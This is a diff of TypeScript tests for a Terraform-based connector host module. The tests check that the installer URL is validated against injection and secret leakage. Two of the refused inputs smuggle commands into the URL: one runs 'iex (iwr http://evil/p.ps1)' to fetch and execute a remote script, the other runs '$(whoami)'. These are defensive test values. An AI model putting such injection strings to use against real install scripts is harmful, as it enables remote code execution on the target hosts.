@@ -145,6 +145,53 @@ describe('ConnectorHost', () => {
     });
   });
 
+  describe('the installer URL cannot open the hosts up', () => {
+    test.each<[string, string]>([
+      ['http://download.example.com/installer.exe', 'is not an https URL; the installer must be downloaded over https'],
+      ["https://x/a'; iex (iwr http://evil/p.ps1); '", `has the character "'", which could break the install script's quoting`],
+      ['https://x/a"b', 'has the character "\\"", which could break'],
+      ['https://x/a%20b', 'has the character "%", which could break'],
+      ['https://x/a$(whoami)', 'has the character "$", which could break'],
+      ['https://store.blob.core.windows.net/c/installer.exe?sv=2024&sig=abc', 'has a query string or fragment; a SAS token would be written to cdk.tf.json in clear'],
+      ['not a url', 'is not an https URL'],
+    ])('%s is refused', (installerUrl, message) => {
+      expect(errorOf(() => hosts({ installerUrl }))).toContain(message);
+    });
+
+    test('a plain https URL is used as it is, in single quotes', () => {
+      const { tf } = hosts({ installerUrl: 'https://downloads.contoso.com/connector/installer-1.5.exe' });
+      const command = JSON.parse(Object.values<any>(tf().resource.azurerm_virtual_machine_extension)[0].protected_settings).commandToExecute;
+      expect(command).toContain("-Uri 'https://downloads.contoso.com/connector/installer-1.5.exe' -OutFile");
+    });
+
+    test('a SAS URL from a sensitive variable reaches the hosts base64-encoded, in protected settings only', () => {
+      const { tf, text } = hosts({}, (s) => ({
+        installerUrl: new TerraformVariable(s, 'installer_url', { type: 'string', sensitive: true }).stringValue,
+      }));
+      const command = JSON.parse(Object.values<any>(tf().resource.azurerm_virtual_machine_extension)[0].protected_settings).commandToExecute;
+      expect(command).toContain("-Uri ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64encode(var.installer_url)}'))) -OutFile");
+      expect(text.match(/var\.installer_url/g)).toHaveLength(2); // one extension per host, nowhere else
+    });
+
+    test('a URL from a variable that is not sensitive, or from another token, is refused', () => {
+      expect(errorOf(() => hosts({}, (s) => ({ installerUrl: new TerraformVariable(s, 'url', { type: 'string' }).stringValue })))).toBe(
+        'test/Connectors: installerUrl must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json',
+      );
+      expect(errorOf(() => hosts({}, (s) => ({ installerUrl: new ConnectorGroup(s, 'Other', { name: 'x' }).connectorGroupId })))).toContain(
+        'installerUrl is a token that is not a Terraform variable',
+      );
+    });
+  });
+
+  test('secret variables are checked again as synthesized, after overrides', () => {
+    const { s, host } = hosts();
+    host.adminPassword.addOverride('sensitive', false);
+    host.registrationToken.addOverride('default', 'eyJ0eXAi');
+    const message = errorOf(() => synthStack(s));
+    expect(message).toContain('[test/Connectors] adminPassword must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json (as synthesized, after overrides)');
+    expect(message).toContain('[test/Connectors] registrationToken has a default value, which would be written to cdk.tf.json in clear; remove it and set the value with TF_VAR_… in the pipeline (as synthesized, after overrides)');
+  });
+
   test('exposes the hosts for network rules', () => {
     const { host } = hosts();
     expect(host.privateIpAddresses).toHaveLength(2);
